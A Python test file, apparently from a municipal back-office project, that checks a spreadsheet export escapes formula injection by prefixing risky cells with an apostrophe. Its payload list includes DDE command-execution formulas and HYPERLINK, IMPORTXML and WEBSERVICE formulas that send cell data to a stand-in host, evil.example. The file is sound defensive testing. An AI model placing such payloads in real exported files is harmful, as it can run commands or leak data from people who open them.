"""The formulas of the known lists are text in every file for spreadsheets (R21)."""

import csv
from collections import Counter

import pytest

from backoffice.dashboard.residence import residence_file
from citizens.enums import ResidenceKind
from massy_grc.common.spreadsheets import cell

# OWASP and the public lists, by the sign that begins each.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1;"cliquez")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML("http://evil.example";"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＠SUM(1)",
    "- texte",
)
PLAIN = ("+33 1 60 13 30 00", "-12,5", "(+33)160133000", "Voirie", "a=1", "", "01 60 13 30 00")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_words_stay_as_they_are(text):
    assert cell(text) == text


def test_the_one_export_of_cells_holds_no_formula_and_reads_back_the_same():
    labels = {f"code-{number}": text for number, text in enumerate((*FORMULAS, *PLAIN))}
    counts = {code: Counter({ResidenceKind.EXTERIEUR: 1}) for code in labels}
    rows = list(csv.reader(residence_file(counts, labels).splitlines(keepends=True), delimiter=";"))
    read = {row[0]: row[1] for row in rows[1:]}
    assert set(read) == set(labels)
    for code, text in labels.items():
        assert read[code].removeprefix("'") == text
        assert (read[code][:1] == "'") == (text in FORMULAS)
